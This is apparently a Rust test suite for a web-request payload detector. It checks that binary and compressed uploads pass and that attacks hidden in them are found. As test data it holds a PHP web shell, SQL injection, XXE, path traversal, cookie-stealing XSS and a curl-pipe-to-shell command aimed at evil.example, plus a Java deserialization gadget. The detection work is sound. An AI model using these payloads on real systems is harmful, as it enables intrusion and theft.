//! Contents that are no text: what is random, packed or encrypted is refused by nobody, whatever type it is
//! sent under, and code or payloads that stand in it are found wherever they stand.
//!
//! `PORTCULLIS_BODIES=10000 PORTCULLIS_BODY_BYTES=16777216` looks at more and longer ones.

use std::io::Write as _;
use std::sync::LazyLock;

use flate2::Compression;
use flate2::write::{DeflateEncoder, GzEncoder};
use portcullis_semantic::{Analysis, Detectors, Level};

static DETECTORS: LazyLock<Detectors> = LazyLock::new(Detectors::new);

/// The class that `level` blocks this body for, and why.
fn verdict(level: Level, content_type: &str, body: &[u8]) -> Option<(&'static str, Vec<String>)> {
    let mut analysis = Analysis::new();
    analysis.request_body(&DETECTORS, content_type.as_bytes(), body);
    let worst = analysis.worst(&DETECTORS, level).filter(|worst| worst.blocks(level))?;
    let tell =
        |found: &portcullis_semantic::Finding| format!("{} {}", found.kind.id, found.evidence.escape_ascii());
    Some((worst.class.name(), analysis.findings().iter().map(tell).collect()))
}

fn class(content_type: &str, body: &[u8]) -> &'static str {
    verdict(Level::Balanced, content_type, body).map_or("", |(class, _)| class)
}

/// Random numbers, the same each time.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    fn below(&mut self, end: usize) -> usize {
        (self.next() >> 33) as usize % end.max(1)
    }

    fn bytes(&mut self, len: usize) -> Vec<u8> {
        let mut bytes: Vec<u8> = (0..len.div_ceil(8)).flat_map(|_| self.next().to_le_bytes()).collect();
        bytes.truncate(len);
        bytes
    }

    /// Words, lines and records, which pack well.
    fn text(&mut self, len: usize) -> Vec<u8> {
        const WORDS: [&str; 24] = [
            "the",
            "select",
            "user",
            "from",
            "<div>",
            "order",
            "id=",
            "'name'",
            "{",
            "}",
            "or",
            "and",
            "1",
            "script",
            "/usr/bin",
            "value",
            ";",
            "\n",
            "42",
            "http://example.com/a",
            "--",
            "cat",
            "$x",
            "(",
        ];
        let mut out = Vec::with_capacity(len + 32);
        while out.len() < len {
            out.extend_from_slice(WORDS[self.below(WORDS.len())].as_bytes());
            out.extend_from_slice(if self.below(9) == 0 { b"\n" } else { b" " });
            if self.below(5) == 0 {
                out.extend_from_slice(self.next().to_string().as_bytes());
            }
        }
        out.truncate(len);
        out
    }

    /// Contents of about this length that are none of a text.
    fn contents(&mut self, len: usize) -> (&'static str, Vec<u8>) {
        match self.below(9) {
            0 | 1 => ("random", self.bytes(len)),
            2 => {
                let mut packer = GzEncoder::new(Vec::new(), Compression::fast());
                packer.write_all(&self.text(len * 3)).unwrap();
                let mut out = packer.finish().unwrap();
                // A chunk from the middle of it, as clients that go on with an upload send.
                if self.below(2) == 0 {
                    out.drain(..out.len() / 3);
                }
                ("gzip", out)
            }
            3 => {
                let mut out = b"PACK\0\0\0\x02\0\0\0\x10".to_vec();
                while out.len() < len {
                    out.push(0xB0 | (self.below(16) as u8));
                    out.push(self.below(128) as u8);
                    let mut packer = flate2::write::ZlibEncoder::new(Vec::new(), Compression::default());
                    let size = 300 + self.below(4_000);
                    packer.write_all(&self.text(size)).unwrap();
                    out.extend(packer.finish().unwrap());
                }
                ("pack", out)
            }
            4 => {
                let mut out = b"\xFF\xD8\xFF\xE0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0".to_vec();
                for b in self.bytes(len) {
                    out.push(b);
                    if b == 0xFF {
                        out.push(0);
                    }
                }
                out.extend(b"\xFF\xD9");
                ("jpeg", out)
            }
            5 => {
                let mut out = b"\x89PNG\r\n\x1A\n\0\0\0\rIHDR\0\0\x02\0\0\0\x02\0\x08\x06\0\0\0".to_vec();
                while out.len() < len {
                    out.extend(b"\0\0\x20\0IDAT");
                    out.extend(self.bytes(8_196));
                }
                ("png", out)
            }
            6 => {
                let mut out = b"\0\0\0\x20ftypisom\0\0\x02\0isomiso2avc1mp41\0\0\0\x08free".to_vec();
                out.extend(self.bytes(len));
                ("mp4", out)
            }
            7 => {
                let mut packer = DeflateEncoder::new(Vec::new(), Compression::fast());
                packer.write_all(&self.text(len * 3)).unwrap();
                let packed = packer.finish().unwrap();
                let name = b"package/lib/index.min.js";
                let mut out = b"PK\x03\x04\x14\0\0\0\x08\0\0\0\0\0\x11\x22\x33\x44".to_vec();
                out.extend((packed.len() as u32).to_le_bytes());
                out.extend((len as u32 * 3).to_le_bytes());
                out.extend([name.len() as u8, 0, 0, 0]);
                out.extend(name);
                out.extend(packed);
                ("zip", out)
            }
            _ => {
                // A tenth of it is structure.
                let mut out = Vec::with_capacity(len);
                while out.len() < len {
                    let size = self.below(120) + 1;
                    out.extend((size as u32).to_be_bytes());
                    out.extend(self.bytes(size));
                    out.extend([0; 5]);
                }
                ("records", out)
            }
        }
    }
}

const TYPES: [&str; 12] = [
    "",
    "application/octet-stream",
    "application/offset+octet-stream",
    "application/x-git-receive-pack-request",
    "application/vnd.docker.image.rootfs.diff.tar.gzip",
    "application/zip",
    "image/jpeg",
    "image/png",
    "video/mp4",
    "binary/octet-stream",
    "x-unknown/type",
    "text/plain",
];

fn setting(name: &str, default: usize) -> usize {
    std::env::var(name).ok().and_then(|text| text.parse().ok()).unwrap_or(default)
}

#[test]
fn honest_bodies_that_are_no_text() {
    let count = setting("PORTCULLIS_BODIES", 300);
    let longest = setting("PORTCULLIS_BODY_BYTES", 512 << 10);
    let mut random = Random(setting("PORTCULLIS_SEED", 77) as u64);
    let (mut refused, mut bytes) = (Vec::new(), 0);
    for number in 0..count {
        // As many of each size's order.
        let size = 1_024.0 * (longest as f64 / 1_024.0).powf(random.below(1_000) as f64 / 1_000.0);
        let (kind, contents) = random.contents(size as usize);
        bytes += contents.len();
        let content_type = TYPES[random.below(TYPES.len())];
        let (shown_as, body) = match random.below(4) {
            0 => {
                let head = "--xYzzY\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.bin\"\r\nContent-Type: ";
                let body =
                    [head.as_bytes(), content_type.as_bytes(), b"\r\n\r\n", &contents, b"\r\n--xYzzY--\r\n"]
                        .concat();
                ("multipart/form-data; boundary=xYzzY", body)
            }
            _ => (content_type, contents),
        };
        if let Some((class, why)) = verdict(Level::Balanced, shown_as, &body) {
            refused.push(format!("{number} {kind} {} {shown_as:?}: {class} {why:?}", body.len()));
        }
    }
    println!("{count} bodies, {bytes} bytes, {} refused", refused.len());
    assert!(refused.is_empty(), "{} of {count}\n{}", refused.len(), refused.join("\n"));
}

/// Packed with gzip, and nothing says so.
fn gzip(contents: &[u8]) -> Vec<u8> {
    let mut packer = GzEncoder::new(Vec::new(), Compression::fast());
    packer.write_all(contents).unwrap();
    packer.finish().unwrap()
}

/// What is packed is a file, whatever it begins with: texts in it are no values. Values that a program packed
/// are.
#[test]
fn packed_files() {
    let mut random = Random(11);
    for begin in ["{", "[", "<div>", "<entry>", "<a><b/><c>", "{'name': ", "\u{feff}{", "plain "] {
        for size in [1_200, 5_000, 70_000, 300_000] {
            let text = random.text(size);
            let lines = b"\n; cat /usr/bin/id\nselect name from users where id= 1 or 1=1 --\n";
            let body = gzip(&[begin.as_bytes(), &text, lines, &text].concat());
            for content_type in ["", "text/plain", "image/png", "application/gzip"] {
                let found = verdict(Level::Balanced, content_type, &body);
                assert_eq!(found, None, "{begin} {size} {content_type}");
            }
        }
    }
    let filler = "word ".repeat(300);
    let attack = "x' UNION SELECT user,password FROM users-- -";
    for (values, want) in [
        (format!("{{\"a\":\"{filler}\",\"b\":\"{attack}\"}}"), "sqli"),
        // A reader that takes what it has got does not wait for the end.
        (format!("{{\"a\":\"{filler}\",\"b\":\"{attack}\"}} and more"), "sqli"),
        (format!("{{\"a\":\"{attack}\",\"b\":\"{filler}\", and no end"), "sqli"),
        (format!("{{\"a\":\"{filler}\"}}\n{{\"a\":\"{attack}\"}}\n"), "sqli"),
        (format!("<a><b>{filler}</b><b>{attack}</b></a>"), "sqli"),
        (format!("<a><b>{filler}</b><b>{attack}</b> and no end"), "sqli"),
        (format!("<a><b c=\"{attack}\">{filler}"), "sqli"),
        (format!("a={}&b=x'+UNION+SELECT+user,password+FROM+users--+-", filler.replace(' ', "+")), "sqli"),
        (format!("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;{filler}"), "xxe"),
    ] {
        assert_eq!(class("", &gzip(values.as_bytes())), want, "{}", values.replace(&filler, "..."));
    }
}

/// Code, scripts and objects are live in a packed file, too, wherever they stand.
#[test]
fn live_code_in_packed_files() {
    let mut random = Random(12);
    let (text, noise) = (random.text(80_000), random.bytes(80_000));
    let object = b"\xAC\xED\0\x05sr\0\x11java.util.HashMap\x05\x07\xDA\xC1\xC3\x16\x60\xD1\x03\0\x02F\0\x0AloadFactorI\0\tthresholdxpsr\0:org.apache.commons.collections.functors.InvokerTransformer";
    for at in [0, 3_000, 65_530, 70_000] {
        for (begin, around) in [("", &text), ("{", &text), ("<div>", &text), ("<a>", &text), ("", &noise)] {
            let file = [begin.as_bytes(), &around[..at], SHELL, &around[at..]].concat();
            assert_ne!(class("", &gzip(&file)), "", "{begin} at {at}");
        }
    }
    for tail in [&noise[..3_000], &[0; 2_000]] {
        assert_eq!(class("", &[&object[..], tail].concat()), "deserialization");
        assert_eq!(class("", &gzip(&[&object[..], tail].concat())), "deserialization");
    }
}

const SHELL: &[u8] = b"<?php system($_GET['cmd']); ?>";

/// An interpreter finds its code after any bytes; so do we.
#[test]
fn live_code_in_noise() {
    let mut random = Random(5);
    let noise = random.bytes(3 << 20);
    for at in [0, 700, 65_530, 65_536, 61_440, 131_000, 1_000_001, noise.len()] {
        let body = [&noise[..at], SHELL, &noise[at..]].concat();
        assert_ne!(class("application/octet-stream", &body), "", "raw, at {at}");
        assert_ne!(class("image/png", &[b"\x89PNG\r\n\x1A\n", &body[..]].concat()), "", "png, at {at}");
        let head = "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\n\r\n";
        let form = [head.as_bytes(), &body, b"\r\n--b--\r\n"].concat();
        assert_ne!(class("multipart/form-data; boundary=b", &form), "", "file, at {at}");
    }
}

/// Windows are cut within the payload at every place.
#[test]
fn no_window_cuts_a_payload_in_two() {
    let mut random = Random(9);
    let noise = random.bytes(80 << 10);
    for lead in (65_536 - SHELL.len() - 4..65_536 + 4).chain(61_440 - 40..61_440 + 4) {
        let head = "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.bin\"\r\n\r\n";
        let form = [head.as_bytes(), &noise[..lead], SHELL, &noise[lead..], b"\r\n--b--\r\n"].concat();
        assert_ne!(class("multipart/form-data; boundary=b", &form), "", "{lead}");
        let xml =
            [b"<a>", &b"word ".repeat(14_000)[..lead], b" ' or 1=1 union select a,b from users -- </a>"]
                .concat();
        assert_ne!(class("text/xml", &xml), "", "xml {lead}");
    }
}

/// What begins like a picture, is half noise, or is a protocol of its own hides no payload.
#[test]
fn payloads_in_what_is_no_text() {
    let mut random = Random(21);
    let noise = random.bytes(40_000);
    let half = random.bytes(150_000);
    for (payload, want) in [
        (&b"../../../../../../etc/passwd"[..], "path"),
        (b"x' UNION SELECT user,password FROM users-- -", "sqli"),
        (b"<script>fetch('//evil.example/'+document.cookie)</script>", "xss"),
        (b";curl http://evil.example/x.sh|sh;", "command"),
    ] {
        for magic in [
            &b"\x89PNG\r\n\x1A\n"[..],
            b"\xFF\xD8\xFF\xE0",
            b"\x1F\x8B\x08\0",
            b"GIF89a",
            b"PK\x03\x04",
            b"MZ",
            b"",
        ] {
            let body = [magic, &noise, payload, &noise].concat();
            assert_eq!(class("application/octet-stream", &body), want, "{}", magic.escape_ascii());
            assert_eq!(class("image/png", &[magic, &noise, payload].concat()), want, "end");
            assert_eq!(class("", &[payload, magic, &noise].concat()), want, "beginning");
        }
        let body = [&half[..], b"\0", payload, b"\0", &half].concat();
        assert_eq!(class("video/mp4", &body), want, "between halves");
    }
}

/// Values of JSON are read to the last, and so are files' neighbours in a form.
#[test]
fn many_values() {
    let mut json = String::from("{\"a\":[");
    for number in 0..100_000 {
        json.push_str(&format!("\"value {number}\","));
    }
    let honest = format!("{json}\"end\"]}}");
    assert_eq!(class("application/json", honest.as_bytes()), "");
    let attack = format!("{json}\"x' UNION SELECT user,password FROM users-- -\"]}}");
    assert_eq!(class("application/json", attack.as_bytes()), "sqli");
    let form = "a=1&".repeat(5_000) + "b=x'+UNION+SELECT+user,password+FROM+users--+-";
    assert_eq!(class("application/x-www-form-urlencoded", form.as_bytes()), "sqli");
    let lines = "{\"a\":1}\n".repeat(6_000) + "{\"b\":\"../../../../etc/passwd\"}\n";
    assert_eq!(class("application/x-ndjson", lines.as_bytes()), "path");
    let literals = "a(b: \\\"c\\\") ".repeat(400);
    let document = format!("{{\"query\":\"query {{ {literals} x(y: \\\"../../../../etc/passwd\\\") }}\"}}");
    assert_eq!(class("application/json", document.as_bytes()), "path");
}

/// A value within a value is read, however many come before it and however deep it stands.
#[test]
fn values_in_values() {
    let url: String = (0..200).map(|number| format!("p{number}=a{number}%20b&")).collect();
    let body = format!(
        "u=http://a.example/?{}",
        (url + "q=x%2527%20UNION%20SELECT%20a,b%20FROM%20users--%20-").replace('&', "%26")
    );
    assert_eq!(class("application/x-www-form-urlencoded", body.as_bytes()), "sqli");
    let strings: String = (0..200).map(|number| format!("\\\"a {number} b\\\",")).collect();
    let body = format!("{{\"a\":\"[{strings}\\\"x\\\\u0027 UNION SELECT a,b FROM users-- -\\\"]\"}}");
    assert_eq!(class("application/json", body.as_bytes()), "sqli");
    let mut coded = "x' UNION SELECT user,password FROM users-- -".to_owned();
    for layer in 1..=9 {
        coded = base64(coded.as_bytes());
        assert_ne!(
            class("application/json", format!("{{\"a\":\"{coded}\"}}").as_bytes()),
            "",
            "{layer} layers"
        );
    }
}

fn base64(bytes: &[u8]) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for three in bytes.chunks(3) {
        let number = three.iter().fold(0u32, |sum, b| sum << 8 | u32::from(*b)) << (8 * (3 - three.len()));
        for index in 0..4 {
            match index <= three.len() {
                true => out.push(char::from(LETTERS[(number >> (18 - 6 * index) & 63) as usize])),
                false => out.push('='),
            }
        }
    }
    out
}

/// What is no JSON under its type is read as what it is, too.
#[test]
fn bodies_of_another_type() {
    for honest in [&b"a=1&b=hello+world"[..], b"plain words, and more of them", b"", b"{\"a\":1} "] {
        assert_eq!(class("application/json", honest), "", "{}", honest.escape_ascii());
    }
    assert_eq!(class("application/json", b"a=1&b=x'+UNION+SELECT+user,password+FROM+users--+-"), "sqli");
    assert_eq!(class("application/json", b"../../../../etc/passwd"), "path");
    assert_eq!(class("application/json", b"{'a': '../../../../etc/passwd'}"), "path");
}
